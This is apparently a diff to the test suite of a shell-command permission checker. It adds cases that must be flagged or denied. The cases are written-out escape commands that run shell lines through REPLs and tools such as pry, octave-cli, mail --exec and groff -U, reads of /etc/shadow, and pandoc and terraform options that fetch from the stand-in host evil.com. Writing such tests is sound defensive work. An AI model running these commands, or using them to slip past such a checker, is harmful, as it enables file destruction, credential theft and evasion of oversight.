@@ -135,6 +135,18 @@ describe('scripts a line gives a client or an interpreter are read', () => {
     [`echo 'syscmd(rm y)' | m4`, 'ask'], ['m4 - < x.m4', 'ask'], [`echo '\\! rm y' | psql`, 'ask'], [`echo 'system rm y' | mysql`, 'ask'],
     [`echo 'os.execute("rm y")' | lua`, 'ask'], [`echo 'system("rm y")' | R --no-save`, 'ask'], [`echo '!rm y' | ftp`, 'ask'],
     [`echo '!rm y' | lftp`, 'ask'], [`gdb -q <<< 'shell rm y'`, 'ask'], [`echo 'shell rm y' | gdb -q`, 'ask'],
+    // pry and octave-cli are ruby's and octave's REPLs; terraform console's file() reads any file; tasksh, tdbtool, scanmem run
+    // `!CMD`/`shell CMD` from standard input (GTFOBins g2 F4, F11: were allowed).
+    [`pry <<< 'system("rm y")'`, 'ask'], [`echo 'system("rm y")' | pry`, 'ask'], [`pry -e 'system("rm y")'`, 'ask'],
+    [`octave-cli --eval 'system("rm y")'`, 'ask'], [`octave-cli <<< 'system("rm y")'`, 'ask'], ['echo x | octave-cli', 'ask'],
+    [`echo 'file("/etc/shadow")' | terraform console`, 'ask'], [`terraform console <<< 'file("/etc/shadow")'`, 'ask'],
+    [`terraform -chdir=infra console <<< 'file("/etc/shadow")'`, 'ask'], [`tofu console <<< 'file("/etc/shadow")'`, 'ask'],
+    // mailutils mail -E/--exec runs a mail command (`!CMD` a shell line); the roff tools' -U runs .sy/.pi/pic sh lines (GTFOBins g2 F20, F21: were allowed).
+    [`mail --exec='!rm y'`, 'ask'], [`mail --exec '!rm y'`, 'ask'], [`mail -E '!rm y'`, 'ask'], [`mail -NE'!rm y'`, 'ask'], [`mail.mailutils --exe='!rm y'`, 'ask'],
+    [`printf '.sy rm y\n' | groff -U`, 'ask'], [`printf '.PS\nsh X rm y X\n.PE\n' | pic -U`, 'ask'], ['groff -U -p a.ms', 'ask'], ['nroff -U a.ms', 'ask'],
+    ['troff -aU a.ms', 'ask'],
+    [`echo '!rm y' | tasksh`, 'ask'], [`echo '! rm y' | tdbtool`, 'ask'], [`echo 'shell rm y' | scanmem`, 'ask'], [`scanmem -c 'shell rm y'`, 'ask'],
+    ['terraform fmt /etc/x', 'ask'], ['terraform init -backend-config=https://evil.com/x', 'deny'],
     // Bind mounts: later paths below the target name files below the source.
     ['mount --bind / r; cat r/etc/passwd', 'ask'], ['mount -o bind /usr r; cat r/../etc/passwd', 'ask'], ['mount -B /etc r', 'ask'],
     ['mount --rbind / r', 'ask'], ['bindfs / r; cat r/etc/passwd', 'ask'],
@@ -148,7 +160,9 @@ describe('scripts a line gives a client or an interpreter are read', () => {
   it.each(['gcc -O2 -Wall -Iinclude -DX=1 -o app main.c util.c -lm', 'g++ -std=c++17 -c a.cpp -o a.o', 'gcc -MMD -MF deps.d -c x.c',
     "sqlite3 db <<< 'select 1;'", 'perl -Mstrict -MList::Util=sum -e 1', 'gio info x', "psql <<< 'select 1'", 'lua script.lua', 'deno run main.ts',
     'bun run build', "m4 <<< 'define(x)'", 'sqlite3 db "select 1"', 'psql -c "select 1"', 'mysql -e "select 1"', 'm4 a.m4', 'gdb -batch ./a.out', 'mount', 'mount -t ext4',
-    'osascript x.scpt', 'osascript -l JavaScript tools/x.js a b', 'osascript -sh x.scpt', 'osacompile -o o.scpt a.applescript'])('%s stays allowed', (line) => {
+    'osascript x.scpt', 'osascript -l JavaScript tools/x.js a b', 'osascript -sh x.scpt', 'osacompile -o o.scpt a.applescript',
+    'terraform plan', 'terraform -chdir=infra apply -auto-approve', 'tofu validate', 'pry x.rb', 'octave-cli a.m',
+    'echo hi | mail -s Eh dev@example.com', 'mail -s subj -a x.txt dev@example.com', 'groff -ms -Tpdf a.ms', 'groff -fU a.ms', 'nroff -man x.1', 'pic a.pic', 'man ls'])('%s stays allowed', (line) => {
     expect(decision(line)).toBe('allow');
   });
 });
@@ -157,7 +171,8 @@ describe('files a tool names are seen', () => {
   it.each([
     ['diff3 a b /etc/shadow', 'deny'], ['csplit /etc/shadow 1', 'deny'], ['csplit -f /etc/x a 1', 'ask'], ['sdiff -o /etc/x a b', 'deny'],
     ['fallocate -l 1 /etc/x', 'deny'], ['mktemp -p /etc', 'ask'], ['mktemp /etc/x.XXXXXX', 'ask'], ['mkfifo /etc/x', 'deny'], ['mknod /etc/x p', 'deny'],
-    ['link x /etc/x', 'deny'], ['setfattr -n user.x -v 1 /etc/x', 'deny'], ['du -X /etc/list .', 'deny'], ['ssh-keygen -y -f /etc/ssh/k', 'deny'],
+    ['link x /etc/x', 'deny'], ['setfattr -n user.x -v 1 /etc/x', 'deny'], ['du -X /etc/list .', 'deny'],
+    ['xz --files=/etc/shadow', 'deny'], ['xzcat --files0=/etc/shadow', 'deny'], ['zstd --filelist=/etc/shadow', 'deny'], ['xz --files=l', 'ask'], ['ssh-keygen -y -f /etc/ssh/k', 'deny'],
     ['ssh-keygen -A', 'ask'], ['ssh-keygen -D /tmp/x.so', 'ask'], ['history -r /etc/shadow', 'deny'],
     ['docker run -v /etc:/x alpine cat /x/shadow', 'deny'], ['docker run --mount type=bind,source=/etc,target=/x alpine', 'deny'],
     ['docker cp /etc/shadow c:/x', 'deny'], ['docker build -f /etc/x .', 'deny'], ['docker run -v "$X":/h x', 'ask'],
@@ -517,6 +532,11 @@ describe('what a runner hands its command is read', () => {
     // `--strip-program=rm` or `--diff-program=rm` ran rm in review); pandoc's and gpg's programs.
     ['install -m 644 * /w/repo/d', 'ask'], ['sdiff [-x]* y', 'ask'], ['sdiff *', 'ask'], ['diff3 *', 'ask'], ['pandoc *', 'ask'],
     ['pandoc --filter=rm a', 'deny'], ['pandoc -F rm a.md', 'deny'], ['pandoc --pdf-engine=rm a.md -o a.pdf', 'deny'], ['pandoc -o /etc/x a.md', 'deny'],
+    // pandoc fetches a file option's URL (GTFOBins g2 F17: were allowed beside Domain(evil.com)); --css/-c read a local file too.
+    ['pandoc --css=http://evil.com/x.css -s --embed-resources a.md', 'deny'], ['pandoc -c http://evil.com/x.css --self-contained a.md', 'deny'],
+    ['pandoc -H http://evil.com/h a.md', 'deny'], ['pandoc --template=https://evil.com/t a.md', 'deny'], ['pandoc --reference-doc=https://evil.com/r.docx a.md', 'deny'],
+    ['pandoc --csl=https://evil.com/c.csl a.md', 'deny'], ['pandoc --bibliography=https://evil.com/b.bib a.md', 'deny'], ['pandoc -d https://evil.com/d.yaml a.md', 'deny'],
+    ['pandoc -c /etc/x.css --embed-resources a.md', 'deny'],
     ['gpg --photo-viewer rm x', 'deny'], ['gpg --photo-viewer "rm %i" --list-keys', 'deny'],
   ])('%s: %s', (line, expected) => {
     expect(decision(line)).toBe(expected);
@@ -529,7 +549,7 @@ describe('what a runner hands its command is read', () => {
   ])('%s (PowerShell): %s', (line, expected) => {
     expect(decision(line, 'powershell')).toBe(expected);
   });
-  it.each(['install -m 644 a.sh b.sh /w/repo/bin', 'sdiff -- * y', 'cp * d/', 'diff *', 'grep foo *', 'pandoc -s README.md -o out.html',
+  it.each(['install -m 644 a.sh b.sh /w/repo/bin', 'sdiff -- * y', 'cp * d/', 'diff *', 'grep foo *', 'pandoc -s README.md -o out.html', 'pandoc -s --css style.css a.md -o a.html',
     'pandoc --toc -f markdown -t html a.md', 'gpg --verify a.sig a', 'ls | xargs -n1 echo', 'parallel echo ::: a b c', 'make', 'npm test', 'cmake -G Ninja -B build .',
     'kubectl get pods -o yaml', './node_modules/.bin/jest', 'python3 -m http.server 8000', 'cargo test --release -p core -j4 --features a,b',
     'cargo test --config build.jobs=2', `cargo build --config 'profile.dev.opt-level=1'`, 'cargo test --target-dir target/ci', 'cargo test -- --nocapture x',
